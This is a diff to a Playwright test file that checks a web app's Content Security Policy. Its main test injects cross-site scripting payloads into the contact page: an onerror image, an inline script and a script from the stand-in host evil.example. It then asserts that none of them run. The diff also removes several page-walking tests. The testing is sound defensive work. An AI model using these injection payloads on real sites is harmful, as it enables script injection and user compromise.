@@ -1,64 +1,41 @@
-import type { Locator, Page } from '@playwright/test';
+// requirements 7, Other traffic; decisions, What the pages may load
 import type {} from '@venue/shared/trusted-types';
-import {
-  ADMIN_PATHS,
-  GALLERY,
-  PORTAL_PATHS,
-  REMOTES,
-  addressesOfEachScreen,
-  UNKNOWN_PATHS,
-  UNLISTED_PATHS,
-} from '../support/addresses';
-import { test as consoleTest } from '../support/consoleTest';
+import { GALLERY, REMOTES } from '../support/addresses';
 import { hydrated } from '../support/hydrated';
 import { copied, openOffline } from '../support/offlineCopy';
-import { settled } from '../support/settled';
-import { FULL_ACCOUNT, storedBefore } from '../support/stored';
 import { expect, test } from '../support/test';
-import { signedInAs } from '../support/visitors';
 
-declare global {
-  interface Window {
-    violations?: string[];
-  }
-}
-
-/** Collects what the policy of each page forbids it, from its first moment on. */
-const collectViolations = ({ page }: { page: Page }) =>
-  page.addInitScript(() => {
-    window.violations = [];
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample }) =>
-      window.violations?.push(`${effectiveDirective} ${sample}`),
-    );
-  });
-test.beforeEach(collectViolations);
-
-const violations = (page: Page) => page.evaluate(() => window.violations);
-
-test('a script that somebody gets into the HTML of a page does not run', async ({ page, visit }) => {
-  // So each of the other tests would fail at a page that does what its policy forbids.
-  visit.expects(/Content Security Policy|Integrity-Policy/);
-  let reached = 0;
-  await page.route('https://evil.example/**', (route) => {
-    reached += 1;
-    return route.fulfill({ contentType: 'text/javascript', body: 'window.attacked = true' });
-  });
-  await page.route('/contact', async (route) => {
-    const response = await route.fetch();
-    const attack = `<img src="data:," onerror="window.attacked = true"><script>window.attacked = true</script>
-      <script src="https://evil.example/attack.js"></script><script src="/main.js"></script>`;
-    await route.fulfill({
-      response,
-      body: (await response.text()).replace('</body>', () => `${attack}</body>`),
+test(
+  'a script that somebody gets into the HTML of a page does not run',
+  { tag: '@core' },
+  async ({ page, visit }) => {
+    // The console names each, so every other test fails at a page that does what its policy forbids.
+    const FORBIDDEN = /Content Security Policy|Integrity-Policy/;
+    visit.expects(FORBIDDEN);
+    let reached = 0;
+    await page.route('https://evil.example/**', (route) => {
+      reached += 1;
+      return route.fulfill({ contentType: 'text/javascript', body: 'window.attacked = true' });
     });
-  });
-  // The browser does not count an answer of a test as one of this machine, so it lets it load nothing of other ports.
-  visit.allows(/loopback|Failed to load resource|Load failed/);
-  await page.goto('/contact');
-  await expect.poll(() => page.evaluate(() => window.violations?.length)).toBeGreaterThanOrEqual(3);
-  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
-  expect(reached).toBe(0);
-});
+    await page.route('/contact', async (route) => {
+      const response = await route.fetch();
+      const attack = `<img src="data:," onerror="window.attacked = true"><script>window.attacked = true</script>
+      <script src="https://evil.example/attack.js"></script><script src="/main.js"></script>`;
+      await route.fulfill({
+        response,
+        body: (await response.text()).replace('</body>', () => `${attack}</body>`),
+      });
+    });
+    // The browser does not count an answer of a test as one of this machine, so it lets it load nothing of other ports.
+    visit.allows(/loopback|Failed to load resource|Load failed/);
+    await page.goto('/contact');
+    await expect
+      .poll(() => visit.messages.filter((text) => FORBIDDEN.test(text)).length)
+      .toBeGreaterThanOrEqual(3);
+    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+    expect(reached).toBe(0);
+  },
+);
 
 /** In a page: tries each way in which a text becomes code or elements, and returns those that the page allows. */
 async function allowedAttacks() {
@@ -118,108 +95,6 @@ test.describe('a page', () => {
     });
 });
 
-/** Shows another address in the application that runs, as its links do: the router counts the entries of the history. */
-const moveTo = (page: Page, address: string) =>
-  page.evaluate((to) => {
-    const { idx } = history.state as { idx: number };
-    history.pushState({ idx: idx + 1 }, '', to);
-    dispatchEvent(new PopStateEvent('popstate'));
-  }, address);
-
-/** The buttons that open a dialog, by kind. */
-function openersIn(main: Locator): Record<string, Locator> {
-  const named = (name: RegExp) => main.getByRole('button', { name });
-  return {
-    photo: main.locator('button[aria-haspopup=dialog]:has(img)'),
-    receipt: named(/^Receipt /),
-    progress: named(/^Track Order /),
-    pass: named(/^Show Pass /),
-    cancel: named(/^Cancel Ticket /),
-    review: named(/^Write .*Review$/),
-    edit: named(/^Edit /),
-    gallery: named(/^Gallery /),
-    delete: named(/^Delete /),
-  };
-}
-
-/** Opens and closes the dialog of the first button of each kind that the page has, and returns which. */
-async function openDialogs(page: Page): Promise<string[]> {
-  // One opens with the page.
-  if ((await page.locator('dialog[open]').count()) > 0) return ['page'];
-  const opened: string[] = [];
-  for (const [kind, buttons] of Object.entries(openersIn(page.getByRole('main')))) {
-    const button = buttons.first();
-    if (!(await button.isVisible())) continue;
-    await button.click();
-    await expect(page.locator('dialog[open]')).toBeVisible();
-    await page.keyboard.press('Escape');
-    await expect(page.locator('dialog[open]')).toHaveCount(0);
-    opened.push(kind);
-  }
-  return opened;
-}
-
-/** Opens every address by itself and then by moving on, with its dialogs, and down to its end. Returns the kinds of dialogs. */
-async function walk(page: Page, addresses: readonly string[]): Promise<string[]> {
-  const headings = new Map<string, string>();
-  const heading = () => page.locator('main :is(h1, h2)').first();
-  const dialogs = new Set<string>();
-  const look = async (address: string) => {
-    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
-    await settled(page);
-    for (const kind of await openDialogs(page)) dialogs.add(kind);
-    expect(await violations(page), address).toEqual([]);
-  };
-  for (const address of addresses)
-    await test.step(address, async () => {
-      await page.goto(address);
-      await hydrated(page);
-      headings.set(address, await heading().innerText());
-      await look(address);
-    });
-  for (const address of addresses)
-    await test.step(`on to ${address}`, async () => {
-      await moveTo(page, address);
-      await expect(heading()).toHaveText(headings.get(address) ?? '');
-      await look(address);
-    });
-  return [...dialogs].sort();
-}
-
-test('no page for everybody does what its policy forbids, opened by itself or from another page', async ({
-  page,
-  request,
-  visit,
-}) => {
-  test.setTimeout(600_000);
-  visit.expects(/status of 404|Not found|could not be decoded/);
-  const addresses = await addressesOfEachScreen(request);
-  expect(addresses.length).toBeGreaterThanOrEqual(18);
-  const dialogs = await walk(page, [...addresses, ...UNLISTED_PATHS, ...UNKNOWN_PATHS, '/signin', '/auth']);
-  expect(dialogs).toEqual(['photo']);
-});
-
-test('no page of a customer does what its policy forbids, opened by itself or from another page', async ({
-  page,
-}) => {
-  test.setTimeout(300_000);
-  await storedBefore(page, FULL_ACCOUNT);
-  await signedInAs(page, 'customer');
-  expect(await walk(page, PORTAL_PATHS)).toEqual(['cancel', 'pass', 'progress', 'receipt', 'review']);
-});
-
-consoleTest.describe('the console', () => {
-  consoleTest.beforeEach(collectViolations);
-
-  consoleTest(
-    'no page of the console does what its policy forbids, opened by itself or from another page',
-    async ({ page }) => {
-      consoleTest.setTimeout(300_000);
-      expect(await walk(page, ADMIN_PATHS)).toEqual(['delete', 'edit', 'gallery', 'page']);
-    },
-  );
-});
-
 test.describe('with the offline copy', () => {
   test.use({ serviceWorkers: 'allow' });
 
@@ -232,9 +107,9 @@ test.describe('with the offline copy', () => {
     await copied(page);
     await openOffline(page, context, '/menu');
     await hydrated(page);
-    expect(await violations(page)).toEqual([]);
-    visit.expects(/Trusted/);
     visit.allows(/Failed to load resource: net::ERR/);
+    expect(visit.messages.filter((text) => !text.includes('net::ERR'))).toEqual([]);
+    visit.expects(/Trusted/);
     expect(await page.evaluate(allowedAttacks)).toEqual({ allowed: [], isAttacked: false });
   });
 });
